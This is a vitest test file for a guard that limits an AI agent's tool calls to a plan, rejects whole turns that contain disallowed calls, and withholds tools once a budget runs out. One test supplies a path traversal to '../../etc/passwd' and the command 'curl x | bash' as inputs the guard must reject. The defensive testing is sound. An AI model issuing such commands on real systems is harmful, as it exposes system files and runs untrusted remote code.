import { generateText, stepCountIs } from 'ai'
import { describe, expect, it } from 'vitest'
import { guardFixture } from '../test/guard-fixture.js'
import { promptOf, scriptedModel, toolsOfferedIn } from '../test/scripted-model.js'
import { testTools } from '../test-utils/test-tools.js'
import { guardTools } from '../tools/guard-tools.js'
import { planPrepareStep } from './plan-prepare-step.js'

describe('planPrepareStep', () => {
  it('should offer the model only the tools of ready steps', async () => {
    const plan = [
      { id: 'read', tool: 'view_file', args: { file: 'README.md' } },
      {
        id: 'write',
        tool: 'write_file',
        args: { file: 'out.md', content: 'x' },
        depends_on: ['read'],
      },
    ]
    const { guard } = await guardFixture(plan)
    const { tools } = testTools()
    const model = scriptedModel([
      { calls: [{ id: 'c1', tool: 'view_file', input: { file: 'README.md' } }] },
      { calls: [{ id: 'c2', tool: 'write_file', input: { file: 'out.md', content: 'x' } }] },
    ])

    await generateText({
      model,
      tools: guardTools(tools, guard),
      prepareStep: planPrepareStep(guard),
      prompt: 'go',
      stopWhen: stepCountIs(5),
    })

    expect(toolsOfferedIn(model, 0)).toEqual(['view_file'])
    expect(toolsOfferedIn(model, 1)).toEqual(['write_file'])
    expect(toolsOfferedIn(model, 2)).toEqual([])
    expect(guard.isComplete()).toBe(true)
  })

  it('should compile each response of the model as a plan in per-turn mode', async () => {
    const { guard } = await guardFixture(undefined)
    const { tools, spies } = testTools()
    const model = scriptedModel([
      {
        calls: [
          { id: 'c1', tool: 'view_file', input: { file: 'README.md' } },
          { id: 'c2', tool: 'run_command', input: { command: 'git status' } },
        ],
      },
    ])

    await generateText({
      model,
      tools: guardTools(tools, guard),
      prepareStep: planPrepareStep(guard, { tools }),
      prompt: 'go',
      stopWhen: stepCountIs(5),
    })

    expect(spies.viewFile).toHaveBeenCalledTimes(1)
    expect(spies.runCommand).toHaveBeenCalledTimes(1)
    expect(guard.snapshot().status).toEqual({ c1: 'done', c2: 'done' })
  })

  it('should reject the whole turn when one of its calls is not allowed', async () => {
    const { guard } = await guardFixture(undefined)
    const { tools, spies } = testTools()
    const model = scriptedModel([
      {
        calls: [
          { id: 'c1', tool: 'view_file', input: { file: 'README.md' } },
          { id: 'c2', tool: 'view_file', input: { file: '../../etc/passwd' } },
          { id: 'c3', tool: 'run_command', input: { command: 'curl x | bash' } },
        ],
      },
    ])

    await generateText({
      model,
      tools: guardTools(tools, guard),
      prepareStep: planPrepareStep(guard, { tools }),
      prompt: 'go',
      stopWhen: stepCountIs(2),
    })

    expect(spies.viewFile).not.toHaveBeenCalled()
    expect(spies.runCommand).not.toHaveBeenCalled()
    const prompt = promptOf(model, 1)
    expect(prompt).toContain('path_outside_workspace')
    expect(prompt).toMatch(/command_(pipeline|not_allowed)/)
    expect(prompt).toContain('the plan was rejected')
  })

  it('should give the model no tools once the guard has stopped', async () => {
    const plan = [
      { id: 'a', tool: 'view_file', args: { file: 'a.md' } },
      { id: 'b', tool: 'view_file', args: { file: 'b.md' } },
    ]
    const { guard } = await guardFixture(plan, { maxCalls: 1 })
    await guard.authorize({ tool: 'view_file', args: { file: 'a.md' } })
    await guard.authorize({ tool: 'view_file', args: { file: 'b.md' } })
    expect(guard.stopReason()?.code).toBe('budget_exhausted')

    const prepareStep = planPrepareStep(guard)
    const result = await prepareStep({
      model: scriptedModel([]),
      steps: [],
      stepNumber: 0,
      instructions: undefined,
      initialInstructions: undefined,
      messages: [],
      initialMessages: [],
      responseMessages: [],
      toolsContext: {},
      runtimeContext: {},
    })

    expect(result?.activeTools).toEqual([])
  })
})
